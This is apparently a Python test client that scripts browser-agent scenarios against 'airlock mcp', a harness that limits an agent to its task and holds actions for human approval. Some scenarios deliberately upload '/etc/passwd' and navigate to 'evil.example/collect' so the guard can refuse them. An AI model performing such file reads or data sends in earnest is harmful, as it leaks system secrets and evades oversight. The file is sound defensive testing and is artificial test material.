#!/usr/bin/env python3
"""An MCP client for tests/mcp.rs, written against the official MCP Python SDK (`mcp`).

It drives `airlock mcp` the way any MCP client would and writes one JSON line per event to
--log (flushed at once, so the Rust test can watch a call block while a human decides):
{"event": "tools", ...}, {"event": "call", "tool": ...} before each call, and
{"event": "result", "tool": ..., "isError": ..., "text": ..., "structured": ..., "images": N}
after it. The test makes every assertion; this script only plays the client.

Scenarios:
  full        stdio: list tools, snapshot, an off-task navigation, the ci-incident steps (the
              submit needs approval and blocks until the test approves it), a screenshot, done.
  disconnect  stdio: a few steps, then the client process dies without closing anything.
  idle        stdio: a snapshot, then idle until the file --resume exists, then one more call
              (the test stops the run meanwhile, as an operator would).
  http        streamable HTTP with a bearer token: list tools and one snapshot, then close.
  forms       stdio, on the lab's forms page: select_option, typing into the list box, hover,
              uploads (declared, undeclared, by path), a wait that never holds, an off-scope
              navigation, tabs, a dialog, then a snapshot to show the session went on.
  offscope    stdio: an off-scope navigation, then a snapshot.
"""

import argparse
import asyncio
import json
import os
import re
import sys

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

NOTE = (
    "RUN-78432 failed in step test: integration: tests/integration/test_refunds.py::"
    "test_refund_rounding raised AssertionError (refund amount 19.98, expected 19.99)."
)


class Log:
    def __init__(self, path):
        self.f = open(path, "a", encoding="utf-8")

    def write(self, **event):
        self.f.write(json.dumps(event) + "\n")
        self.f.flush()


async def call(session, log, tool, args=None, progress=False):
    log.write(event="call", tool=tool, args=args or {})

    async def on_progress(value, total, message):
        log.write(event="progress", tool=tool, progress=value, message=message)

    r = await session.call_tool(tool, args or {}, progress_callback=on_progress if progress else None)
    texts = [c.text for c in r.content if getattr(c, "type", "") == "text"]
    images = [c for c in r.content if getattr(c, "type", "") == "image"]
    log.write(
        event="result",
        tool=tool,
        args=args or {},
        isError=bool(r.is_error),
        text="\n".join(texts),
        structured=r.structured_content,
        images=len(images),
        image_bytes=sum(len(i.data) for i in images),
    )
    return r, "\n".join(texts)


def ref_of(snapshot, name):
    """The ref of the element whose line names `name` in the snapshot, if any."""
    for line in snapshot.splitlines():
        if name in line:
            m = re.search(r"\[ref=(e\d+)\]", line)
            if m:
                return m.group(1)
    return None


async def full(session, log):
    tools = await session.list_tools()
    log.write(event="tools", names=[t.name for t in tools.tools],
              descriptions={t.name: t.description for t in tools.tools})
    await call(session, log, "browser_snapshot")
    # Off the task (an incident the task must not touch): refused with the reason, as a tool
    # result, and the session goes on. (Reaching another host is a severe violation: refused
    # too in an MCP session by default, or the run stops with `[mcp] on_violation = "stop"`;
    # the `forms` and `offscope` scenarios cover both.)
    await call(session, log, "browser_navigate", {"url": "http://incidents.example/incidents/INC-9911"})
    await call(session, log, "browser_click", {"element": "search box", "x": 409, "y": 116})
    await call(session, log, "browser_type", {"text": "RUN-78432", "submit": True})
    await call(session, log, "browser_wait_for", {"time": 5})
    await call(session, log, "browser_click", {"element": "run RUN-78432", "x": 189, "y": 336})
    await call(session, log, "browser_click", {"element": "failed step details", "x": 1037, "y": 510})
    await call(session, log, "browser_click", {"element": "incident INC-2048", "x": 282, "y": 265})
    _, page = await call(session, log, "browser_click", {"element": "note field", "x": 944, "y": 405})
    await call(session, log, "browser_type", {"text": NOTE})
    _, page = await call(session, log, "browser_snapshot")
    ref = ref_of(page, "Submit note")
    args = {"element": "Submit note", "ref": ref} if ref else {"element": "Submit note", "x": 857, "y": 497}
    # Needs approval: blocks until the test, acting as reviewer, decides, reporting progress.
    await call(session, log, "browser_click", args, progress=True)
    await call(session, log, "browser_take_screenshot")
    await call(session, log, "done", {"claim": "Added a note to INC-2048 naming test_refund_rounding."})
    # After done the run is over; further calls say so.
    await call(session, log, "browser_snapshot")


async def forms(session, log):
    tools = await session.list_tools()
    log.write(event="tools", names=[t.name for t in tools.tools])
    _, page = await call(session, log, "browser_snapshot")
    prio = ref_of(page, 'combobox "Priority"')
    await call(session, log, "browser_select_option", {"element": "Priority", "ref": prio, "values": ["High"]})
    await call(session, log, "browser_type", {"element": "Priority", "ref": prio, "text": "low"})
    await call(session, log, "browser_select_option", {"element": "Priority", "ref": prio, "values": ["Urgent"]})
    _, page = await call(session, log, "browser_snapshot")
    menu = ref_of(page, 'button "Actions"')
    await call(session, log, "browser_hover", {"element": "Actions", "ref": menu})
    await call(session, log, "browser_file_upload", {"element": "Attachment", "file": "report"})
    await call(session, log, "browser_file_upload", {"element": "Attachment", "file": "passwd"})
    await call(session, log, "browser_file_upload", {"element": "Attachment", "paths": ["/etc/passwd"]})
    await call(session, log, "browser_wait_for", {"text": "This text never appears", "time": 1})
    await call(session, log, "browser_navigate", {"url": "http://evil.example/collect?d=mcp"})
    await call(session, log, "browser_tabs", {"action": "list"})
    await call(session, log, "browser_tabs", {"action": "select", "index": 1})
    await call(session, log, "browser_handle_dialog", {"accept": True})
    await call(session, log, "browser_snapshot")
    await call(session, log, "done", {"claim": "Set the priority and attached the report."})


async def offscope(session, log):
    await call(session, log, "browser_snapshot")
    await call(session, log, "browser_navigate", {"url": "http://evil.example/collect?d=mcp"})
    await call(session, log, "browser_snapshot")


async def disconnect(session, log):
    await session.list_tools()
    await call(session, log, "browser_snapshot")
    await call(session, log, "browser_click", {"element": "search box", "x": 409, "y": 116})
    await call(session, log, "browser_type", {"text": "RUN-78432"})
    log.write(event="dying")
    # A crashed client: no shutdown, no closed session; the server just loses its peer.
    os._exit(0)


async def idle(session, log, resume):
    await call(session, log, "browser_snapshot")
    log.write(event="idle")
    while not os.path.exists(resume):
        await asyncio.sleep(0.2)
    await call(session, log, "browser_click", {"element": "search box", "x": 409, "y": 116})


async def stdio(args, scenario):
    params = StdioServerParameters(
        command=args.bin,
        args=["--home", args.home, "mcp", "--task", args.task, "--approvals", args.approvals],
        env=dict(os.environ),
        cwd=args.cwd,
    )
    log = Log(args.log)
    with open(args.errlog, "a", encoding="utf-8") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write):
            async with ClientSession(read, write) as session:
                init = await session.initialize()
                log.write(event="initialized", server=init.server_info.name,
                          instructions=init.instructions or "")
                await scenario(session, log)


async def http(args):
    from mcp.client.streamable_http import streamable_http_client
    from mcp.shared._httpx_utils import create_mcp_http_client

    log = Log(args.log)
    client = create_mcp_http_client(headers={"Authorization": f"Bearer {args.token}"})
    async with client:
        async with streamable_http_client(args.url, http_client=client) as (read, write):
            async with ClientSession(read, write) as session:
                init = await session.initialize()
                log.write(event="initialized", server=init.server_info.name)
                tools = await session.list_tools()
                log.write(event="tools", names=[t.name for t in tools.tools])
                await call(session, log, "browser_snapshot")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("scenario", choices=["full", "disconnect", "idle", "http", "forms", "offscope"])
    p.add_argument("--bin")
    p.add_argument("--home")
    p.add_argument("--task")
    p.add_argument("--cwd")
    p.add_argument("--log", required=True)
    p.add_argument("--errlog", default="/dev/null")
    p.add_argument("--url")
    p.add_argument("--token")
    p.add_argument("--resume", help="idle: the file whose existence ends the wait")
    p.add_argument("--approvals", default="web", help="`airlock mcp --approvals` mode")
    args = p.parse_args()
    if args.scenario == "http":
        asyncio.run(http(args))
    else:
        scenarios = {
            "full": full,
            "forms": forms,
            "offscope": offscope,
            "disconnect": disconnect,
            "idle": lambda session, log: idle(session, log, args.resume),
        }
        asyncio.run(stdio(args, scenarios[args.scenario]))


if __name__ == "__main__":
    sys.exit(main())
